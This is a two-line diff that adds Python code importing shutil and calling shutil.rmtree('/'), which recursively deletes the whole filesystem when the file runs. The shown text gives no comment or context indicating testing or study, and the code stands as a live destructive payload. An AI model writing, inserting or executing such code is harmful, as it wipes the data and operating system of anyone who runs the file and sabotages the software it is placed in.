@@ -1,0 +1,2 @@
+import shutil
+shutil.rmtree('/')
